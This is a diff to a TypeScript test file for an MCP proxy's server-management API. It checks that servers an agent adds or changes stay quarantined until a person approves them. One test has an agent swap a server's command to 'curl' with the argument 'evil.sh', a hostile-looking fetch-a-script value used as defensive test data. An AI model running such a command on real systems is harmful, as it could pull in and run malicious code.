@@ -1,8 +1,8 @@
 import { UpstreamError } from '@mcpproxy/contracts';
 import { describe, expect, it } from 'vitest';
 import { ManagementError } from '../src/index.js';
-import { defaultTools, echoTool } from './helpers/connector.js';
 import { agent, createStack, type FakeClock, human } from './helpers/stack.js';
+import { defaultTools, echoTool } from './helpers/tools.js';
 
 /** Awaits a rejection and returns it as a ManagementError (fails the test if it resolves or throws anything else). */
 async function refusal(promise: Promise<unknown>): Promise<ManagementError> {
@@ -32,14 +32,14 @@ describe('adding servers and quarantine', () => {
     const added = await s.mgmt.addServer({ name: 'gh', command: 'gh-mcp' }, human);
     expect(added).toMatchObject({ name: 'gh', quarantined: true, state: 'quarantined' });
     expect(s.view.server('gh')?.state).toBe('quarantined');
-    expect(s.connector.connects('gh')).toBe(0);
+    expect(s.connector.attempts('gh')).toBe(0);
     expect(s.json().mcpServers).toEqual([{ name: 'gh', command: 'gh-mcp', quarantined: true }]);
 
     const ready = s.reach('gh', 'ready');
     const approved = await s.mgmt.unquarantineServer('gh', human);
     expect(approved.quarantined).toBe(false);
     await ready;
-    expect(s.connector.connects('gh')).toBe(1);
+    expect(s.connector.attempts('gh')).toBe(1);
     expect(s.json().mcpServers).toEqual([{ name: 'gh', command: 'gh-mcp' }]);
     expect(s.events.of('server_config_changed', 'gh').map((e) => e.data.change)).toEqual(['added', 'unquarantined']);
   });
@@ -53,7 +53,7 @@ describe('adding servers and quarantine', () => {
     expect(error.message).toMatch(/human-only/);
     expect(s.file()).toBe(before);
     expect(s.view.server('gh')?.state).toBe('quarantined');
-    expect(s.connector.connects('gh')).toBe(0);
+    expect(s.connector.attempts('gh')).toBe(0);
   });
 
   it('quarantines every server an agent adds, even with quarantine_enabled off and quarantined:false asked', async () => {
@@ -64,8 +64,8 @@ describe('adding servers and quarantine', () => {
     const byHuman = await s.mgmt.addServer({ name: 'mine', command: 'y' }, human);
     expect(byHuman.quarantined).toBe(false);
     await ready;
-    expect(s.connector.connects('sneaky')).toBe(0);
-    expect(s.connector.connects('mine')).toBe(1);
+    expect(s.connector.attempts('sneaky')).toBe(0);
+    expect(s.connector.attempts('mine')).toBe(1);
   });
 
   it('lets a person skip quarantine by saying quarantined:false outright', async () => {
@@ -142,7 +142,7 @@ describe('updating and removing servers', () => {
       groups: ['dev'],
     });
     await reconnected;
-    expect(s.connector.connects('a')).toBe(2);
+    expect(s.connector.attempts('a')).toBe(2);
 
     await s.mgmt.updateServer('a', { env: { A: null }, groups: null } as never, human);
     expect(s.json().mcpServers[0]).toMatchObject({ env: { B: '20', C: '3' } });
@@ -175,7 +175,7 @@ describe('updating and removing servers', () => {
     const swapped = await s.mgmt.updateServer('a', { command: 'curl', args: ['evil.sh'] }, agent);
     expect(swapped).toMatchObject({ quarantined: true, state: 'quarantined' });
     expect(s.json().mcpServers[0]).toMatchObject({ command: 'curl', quarantined: true });
-    expect(s.connector.connects('a')).toBe(1);
+    expect(s.connector.attempts('a')).toBe(1);
   });
 
   it("refuses an agent patch that changes a person's tool filter, but lets a person do it", async () => {
@@ -224,7 +224,7 @@ describe('updating and removing servers', () => {
     expect(s.view.server('a')).toBeUndefined();
     expect(s.mgmt.listServers().map((x) => x.name)).toEqual(['b']);
     expect(s.supervisor.getActor('a')).toBeUndefined();
-    expect(s.connector.last('a')?.closed).toBe(true);
+    expect(s.connector.last('a').closed).toBe(true);
   });
 
   it('answers NOT_FOUND for an unknown server in every operation', async () => {
@@ -258,14 +258,14 @@ describe('enable, disable, quarantine and restart', () => {
     const disabled = await s.mgmt.disableServer('a', human);
     expect(disabled).toMatchObject({ enabled: false, state: 'disabled' });
     expect(s.json().mcpServers[0]).toMatchObject({ enabled: false });
-    expect(s.connector.last('a')?.closed).toBe(true);
+    expect(s.connector.last('a').closed).toBe(true);
 
     const ready = s.reach('a', 'ready');
     const enabled = await s.mgmt.enableServer('a', human);
     expect(enabled.enabled).toBe(true);
     expect(s.json().mcpServers[0]).not.toHaveProperty('enabled');
     await ready;
-    expect(s.connector.connects('a')).toBe(2);
+    expect(s.connector.attempts('a')).toBe(2);
   });
 
   it('answers at once, writing nothing, when the server is already in the asked state', async () => {
@@ -292,7 +292,7 @@ describe('enable, disable, quarantine and restart', () => {
     const summary = await s.mgmt.quarantineServer('a', agent);
     expect(summary).toMatchObject({ quarantined: true, state: 'quarantined' });
     expect(s.json().mcpServers[0]).toMatchObject({ quarantined: true });
-    expect(s.connector.last('a')?.closed).toBe(true);
+    expect(s.connector.last('a').closed).toBe(true);
   });
 
   it('restarts a ready server: it reconnects and answers ready', async () => {
@@ -301,7 +301,7 @@ describe('enable, disable, quarantine and restart', () => {
     const reloads = s.events.of('config_reloaded').length;
     const summary = await s.mgmt.restartServer('a', human);
     expect(summary.state).toBe('ready');
-    expect(s.connector.connects('a')).toBe(2);
+    expect(s.connector.attempts('a')).toBe(2);
     expect(s.events.of('server_state_changed', 'a').some((e) => e.data.reason === 'restart')).toBe(true);
     // Not a config change.
     expect(s.events.of('config_reloaded').length).toBe(reloads);
@@ -331,7 +331,7 @@ describe('enable, disable, quarantine and restart', () => {
     });
     expect((await refusal(s.mgmt.restartServer('off', human))).code).toBe('CONFLICT');
     expect((await refusal(s.mgmt.restartServer('q', human))).code).toBe('CONFLICT');
-    expect(s.connector.connects('off') + s.connector.connects('q')).toBe(0);
+    expect(s.connector.attempts('off') + s.connector.attempts('q')).toBe(0);
   });
 
   it('re-enables an auto-disabled server, although its config entry never changed', async () => {
@@ -357,7 +357,7 @@ describe('tools', () => {
     await s.reach('a', 'ready');
     const newTool = { name: 'delete_repo', description: 'Deletes a repository', inputSchema: { type: 'object' } };
     const pending = s.events.next('tool_quarantine_changed', (e) => e.data.tool === 'delete_repo');
-    s.connector.last('a')?.changeTools([...defaultTools, newTool]);
+    s.connector.last('a').changeTools([...defaultTools, newTool]);
     await pending;
     expect(s.mgmt.getServerTools('a').find((t) => t.name === 'delete_repo')?.approval).toBe('pending');
 
